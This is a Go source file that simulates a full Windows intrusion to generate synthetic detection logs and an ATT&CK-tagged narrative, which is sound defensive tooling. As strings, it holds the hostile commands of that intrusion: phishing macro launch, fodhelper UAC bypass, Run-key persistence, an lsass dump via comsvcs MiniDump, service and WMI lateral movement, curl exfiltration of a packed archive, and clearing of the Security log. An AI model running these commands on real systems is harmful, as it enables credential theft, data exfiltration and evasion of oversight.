package datasets

import "strings"

// targets are the computers of one intrusion.
type targets struct {
	desk, files, dc *host
}

// intruder is one intrusion while it is told. Its times are offsets from the
// opening of the document.
type intruder struct {
	*stage
	targets
	start   instant
	dump    string   // file of the memory dump
	implant *process // on the workstation, as the user
	raised  *process // the same with full rights
	stolen  *session // the administrator's logon on the file server
	remote  *process // on the file server
}

// intrude adds a whole intrusion that begins at start and takes 15 hours.
func (s *stage) intrude(t targets, start instant) {
	s.part = handsOn
	in := &intruder{stage: s, targets: t, start: start, dump: `C:\Windows\Temp\hm` + hex(t.desk.rng, 4)[2:] + ".dmp"}
	in.phish()
	in.persist()
	in.discover()
	in.raise()
	in.dumpMemory()
	in.moveByService()
	in.moveByWMI()
	in.report()
	in.collect()
	in.exfiltrate()
	in.clean()
	s.part = background
}

// at is the time of an offset, off by less than a second: nobody acts on the dot.
func (in *intruder) at(offset instant) instant {
	return in.start + offset + instant(in.desk.rng.IntN(900))
}

// step notes what happened for the story.
func (in *intruder) step(at instant, h *host, technique, what, trace string) {
	in.steps = append(in.steps, Step{Time: at.time(), Host: h.name, Technique: technique, What: what, Trace: trace})
}

// phish: a document from the mail starts the launcher.
func (in *intruder) phish() {
	h, im := in.desk, in.world.images
	at := in.at(0)
	document := `C:\Users\` + h.user.name + `\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\8KQ2ZT1M\Freight_Claim_88213.docm`
	in.writeFile(h.procs[im.outlook], at-4*second, document)
	word := h.newProcess(at, im.word, `"`+im.word.path+`" /n "`+document+`" /o ""`, h.procs[im.outlook], h.desktop)
	in.create(word, at)
	in.load(word, at+30, 3)
	in.setValue(word, at+900, `HKU\`+h.user.sid+`\Software\Microsoft\Office\16.0\Word\Security\Trusted Documents\TrustRecords\Freight_Claim_88213.docm`, "Binary Data")
	in.step(at, h, "T1566.001", "The user opens the attachment Freight_Claim_88213.docm from Outlook.", "Freight_Claim_88213.docm")

	at = in.at(24 * second)
	in.implant = h.newProcess(at, im.powershell, launcher(), word, h.desktop)
	in.create(in.implant, at)
	in.load(in.implant, at+60, 4)
	in.step(at, h, "T1059.001", "WINWORD.EXE starts a hidden PowerShell with an encoded command.", "-NoP -W Hidden -enc ")
	in.startEngine(in.implant, at+400)
	in.script(in.implant, at+700, launcherScript(), "")
	in.script(in.implant, at+900, innerScript, "")
	in.step(at+900, h, "T1027", "The encoded command holds a second encoded text with the address of the control server.", control.name)
	in.cmdlet(in.implant, at+950, "Start-HarborReport", `ParameterBinding(Start-HarborReport): name="Uri"; value="`+controlURL+"\"\r\n")
	in.pipeline(in.implant, at+960, launcherScript(), `CommandInvocation(Invoke-HarborNote): "Invoke-HarborNote"`)
	in.resolve(in.implant, at+1400, control)
	in.connect(in.implant, at+1500, control)
	in.step(at+1500, h, "T1071.001", "First connection to the control server.", control.ip)
	in.end(word, in.at(11*minute))
}

// persist: a Run key.
func (in *intruder) persist() {
	at := in.at(96 * second)
	key := `HKU\` + in.desk.user.sid + `\Software\Microsoft\Windows\CurrentVersion\Run`
	in.createKey(in.implant, at, key)
	in.setValue(in.implant, at+4, key+`\HarborSync`, launcher())
	in.step(at, in.desk, "T1547.001", "A Run key HarborSync starts the launcher at each logon.", `CurrentVersion\Run\HarborSync`)
}

// discover: who, where, what.
func (in *intruder) discover() {
	h, im := in.desk, in.world.images
	for i, c := range [...]struct {
		image                          *image
		command, technique, what, seen string
	}{
		{im.whoami, "whoami.exe /all", "T1033", "whoami shows the user's groups and privileges.", "whoami.exe /all"},
		{im.net, "net.exe user /domain", "T1087.002", "net user lists the accounts of the domain.", "net.exe user /domain"},
		{im.nltest, "nltest.exe /domain_trusts /all_trusts", "T1482", "nltest lists the trusts.", "/domain_trusts"},
		{im.ipconfig, "ipconfig.exe /all", "T1016", "ipconfig shows the network.", "ipconfig.exe /all"},
		{im.tasklist, "tasklist.exe /v", "T1057", "tasklist shows the processes.", "tasklist.exe /v"},
	} {
		at := in.at(16*minute + instant(i)*97*second)
		p := in.run(at, c.image, c.command, in.implant, h.desktop, 900)
		if c.image == im.net {
			in.run(at+30, im.net1, sys32+"net1 user /domain", p, h.desktop, 700)
		}
		in.step(at, h, c.technique, c.what, c.seen)
	}
	at := in.at(37 * minute)
	in.inject(in.implant, h.procs[im.explorer], at)
	in.step(at, h, "T1055", "PowerShell starts a thread in explorer.exe.", "CreateRemoteThread detected")
}

// raise: fodhelper.exe starts the launcher with full rights and no question.
func (in *intruder) raise() {
	h, im := in.desk, in.world.images
	at := in.at(81 * minute)
	key := `HKU\` + h.user.sid + `_Classes\ms-settings\Shell\Open\command`
	in.createKey(in.implant, at, key)
	in.setValue(in.implant, at+6, key+`\DelegateExecute`, "(Empty)")
	in.setValue(in.implant, at+9, key+`\(Default)`, launcher())
	high := &session{h.user, h.desktop.id, h.desktop.guid, "1", "High"}
	helper := in.run(at+second, im.fodhelper, `"`+im.fodhelper.path+`"`, in.implant, high, 3*second)
	in.raised = h.newProcess(at+2*second, im.powershell, launcher(), helper, high)
	in.create(in.raised, at+2*second)
	in.load(in.raised, at+2*second+40, 3)
	in.step(at, h, "T1548.002", "A registry value makes fodhelper.exe start the launcher with high integrity.", `ms-settings\Shell\Open\command`)
}

// dumpMemory: rundll32.exe writes the memory of lsass.exe to a file.
func (in *intruder) dumpMemory() {
	h, im := in.desk, in.world.images
	at := in.at(90 * minute)
	lsass := h.procs[im.lsass]
	command := `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump ` + lsass.id() + " " + in.dump + " full"
	p := in.run(at, im.rundll32, command, in.raised, in.raised.session, 3*second)
	in.loadImage(p, at+150, system("comsvcs.dll", "COM+ Services"))
	in.access(p, lsass, at+300, "0x1fffff", `C:\Windows\SYSTEM32\ntdll.dll+9d4e4|C:\Windows\System32\KERNELBASE.dll+2c13e|C:\Windows\System32\comsvcs.dll+2c7a1|C:\Windows\system32\rundll32.exe+3b1f|C:\Windows\System32\KERNEL32.DLL+17034`)
	in.writeFile(p, at+350, in.dump)
	in.step(at, h, "T1003.001", "rundll32.exe dumps the memory of lsass.exe through comsvcs.dll, MiniDump.", "comsvcs.dll, MiniDump")
	in.step(at+300, h, "T1003.001", "rundll32.exe opens lsass.exe with full access.", "0x1fffff")
	in.step(at+350, h, "T1003.001", "The dump is written.", in.dump)
}

// moveByService: the administrator's password opens the file server, a service
// with a random name runs the launcher there.
func (in *intruder) moveByService() {
	h, im := in.files, in.world.images
	at := in.at(118 * minute)
	in.useCredentials(in.raised, in.world.admin, h, at)
	in.connect(in.raised, at+80, remote{strings.ToLower(h.name) + "." + dnsDomain, h.ip, "445"})
	in.stolen = in.logonFrom(h, in.desk, in.world.admin, at+200, "NTLM", true)
	in.step(at+200, h, "T1078.002", "adm.okafor logs on over the network from the workstation, with NTLM.", `"LogonType":"3"`)
	in.share(h, in.desk, in.stolen, at+300, `\\*\IPC$`, "", "svcctl")
	in.share(h, in.desk, in.stolen, at+500, `\\*\ADMIN$`, `\??\C:\Windows`, `Temp\`)
	in.step(at+300, h, "T1021.002", "The service pipe and ADMIN$ are opened from the workstation.", "svcctl")

	at = in.at(118*minute + 6*second)
	name := serviceName(h)
	command := `%COMSPEC% /C start /b ` + launcher()
	in.installService(h, in.stolen, at, name, command)
	in.step(at, h, "T1543.003", "A service named "+name+" is installed to run the launcher.", name)
	manager := h.procs[im.services]
	shell := in.run(at+200, im.cmd, sys32+"cmd.exe /C start /b "+launcher(), manager, h.service, second)
	in.remote = h.newProcess(at+350, im.powershell, launcher(), shell, h.service)
	in.create(in.remote, at+350)
	in.load(in.remote, at+400, 4)
	in.startEngine(in.remote, at+700)
	in.script(in.remote, at+900, innerScript, "")
	in.step(at+350, h, "T1569.002", "services.exe starts cmd.exe, which starts the launcher as SYSTEM.", "-NoP -W Hidden -enc ")
	in.resolve(in.remote, at+1300, control)
	in.connect(in.remote, at+1400, control)
	in.logoff(h, in.stolen, at+4*minute)
}

// serviceName is eight random letters.
func serviceName(h *host) string {
	b := []byte{byte('A' + h.rng.IntN(26))}
	for range 7 {
		b = append(b, byte('a'+h.rng.IntN(26)))
	}
	return string(b)
}

// moveByWMI: WmiPrvSE.exe of the domain controller starts the launcher.
func (in *intruder) moveByWMI() {
	h, im := in.dc, in.world.images
	at := in.at(156 * minute)
	name := strings.ToLower(h.name) + "." + dnsDomain
	in.useCredentials(in.raised, in.world.admin, h, at)
	in.connect(in.raised, at+60, remote{name, h.ip, "135"})
	in.connect(in.raised, at+140, remote{name, h.ip, "49667"})
	s := in.logonFrom(h, in.desk, in.world.admin, at+200, "NTLM", true)
	host := h.newProcess(at+500, im.wmiprvse, `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`, h.dcomLaunch(), h.service)
	in.create(host, at+500)
	p := h.newProcess(at+900, im.powershell, launcher(), host, s)
	in.create(p, at+900)
	in.load(p, at+950, 3)
	in.startEngine(p, at+1200)
	in.script(p, at+1400, innerScript, "")
	in.step(at+900, h, "T1047", "WmiPrvSE.exe starts the launcher on the domain controller.", "-NoP -W Hidden -enc ")
	group := in.run(at+40*second, im.net, `net.exe group "Domain Admins" /domain`, p, s, 800)
	in.run(at+40*second+20, im.net1, sys32+`net1 group "Domain Admins" /domain`, group, s, 700)
	in.step(at+40*second, h, "T1069.002", "net group lists the domain's administrators.", "Domain Admins")
	in.end(p, at+6*minute)
	in.end(host, at+9*minute)
	in.logoff(h, s, at+9*minute)
}

// Offsets of the beacon: six and a half hours of the night with 45 silent minutes.
const (
	beaconFrom  = 10*hour + 18*minute
	beaconTo    = beaconFrom + 6*hour + 30*minute
	silenceFrom = beaconFrom + 2*hour + 20*minute
	silenceTo   = silenceFrom + 45*minute
)

// report: the workstation asks the control server for orders every 60 seconds,
// up to 5 seconds early or late.
func (in *intruder) report() {
	in.part = beacon
	for o := beaconFrom; o < beaconTo; o += minute {
		if o >= silenceFrom && o < silenceTo {
			continue
		}
		at := in.at(o + instant(in.desk.rng.IntN(10001)-5000))
		in.resolve(in.implant, at, control)
		in.connect(in.implant, at+90, control)
	}
	in.part = handsOn
	in.step(in.at(beaconFrom), in.desk, "T1573.002", "The beacon begins: every 60 seconds, give or take 5, for six and a half hours.", control.ip)
	in.step(in.at(silenceTo), in.desk, "T1573.002", "The beacon resumes after 45 silent minutes.", control.ip)
}

// collect: a renamed archiver packs the contracts.
func (in *intruder) collect() {
	h, im := in.files, in.world.images
	at := in.at(14*hour + 20*minute)
	in.writeFile(in.remote, at-30*second, im.renamed.path)
	in.step(at-30*second, h, "T1036.003", "7z.exe is stored as igfxtask.exe.", "igfxtask.exe")
	command := `C:\ProgramData\Intel\igfxtask.exe a -mhe=on -pQuay! C:\ProgramData\Intel\cache.7z D:\Shares\Dispatch\Contracts`
	p := in.run(at, im.renamed, command, in.remote, h.service, 4*minute)
	in.writeFile(p, at+200, `C:\ProgramData\Intel\cache.7z`)
	in.step(at, h, "T1560.001", "The contracts are packed with a password.", `igfxtask.exe a -mhe=on`)
}

// exfiltrate: curl uploads the archive.
func (in *intruder) exfiltrate() {
	h, im := in.files, in.world.images
	at := in.at(14*hour + 43*minute)
	p := in.run(at, im.curl, `curl.exe -s -T C:\ProgramData\Intel\cache.7z `+dropURL, in.remote, h.service, 11*minute)
	in.resolve(p, at+150, drop)
	in.connect(p, at+230, drop)
	in.step(at, h, "T1048.002", "curl.exe uploads the archive to a second address; the traffic table shows the volume.", dropURL)
}

// clean: files and the log go.
func (in *intruder) clean() {
	h, im := in.files, in.world.images
	at := in.at(14*hour + 58*minute)
	in.run(at, im.cmd, `cmd.exe /c del /q C:\ProgramData\Intel\cache.7z C:\ProgramData\Intel\igfxtask.exe`, in.remote, h.service, 400)
	in.step(at, h, "T1070.004", "The archive and the archiver are deleted.", "del /q")
	in.run(at+20*second, im.wevtutil, "wevtutil.exe cl Security", in.remote, h.service, 500)
	in.clearLog(h, h.service, at+20*second+200)
	in.step(at+20*second, h, "T1070.001", "The Security log of the file server is cleared.", "wevtutil.exe cl Security")
	in.end(in.remote, at+40*second)
}
